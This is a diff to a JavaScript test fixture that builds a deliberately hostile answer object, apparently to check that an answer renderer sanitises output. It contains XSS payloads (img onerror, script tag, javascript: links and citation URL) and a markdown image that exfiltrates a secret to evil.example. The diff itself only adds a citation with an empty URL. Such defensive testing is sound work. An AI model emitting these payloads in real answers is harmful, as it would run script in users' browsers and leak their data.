@@ -47,8 +47,9 @@ const long = (base) => ({
 const hostileAnswer = (base) => ({
   text: '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script> ![pixel](https://evil.example/leak?q=secret) ' +
     '[click](javascript:window.pwned=1) [prize](https://evil.example/win) https://evil.example/auto [data](data:text/html,x) ' +
-    `[good](${base}/demo/shop/returns.html) [mail](mailto:a@evil.example) [1] [2] [9]`,
-  citations: [citation(1, `${base}/demo/shop/returns.html`, '<b>Returns</b>'), citation(2, 'javascript:window.pwned=1', '')],
+    `[good](${base}/demo/shop/returns.html) [mail](mailto:a@evil.example) [1] [2] [3] [9]`,
+  citations: [citation(1, `${base}/demo/shop/returns.html`, '<b>Returns</b>'), citation(2, 'javascript:window.pwned=1', ''),
+    { id: 3, url: '', title: 'A file', start: null, end: null, support: 'unchecked' }],
 });
 
 /** Question -> what is answered, and how. */
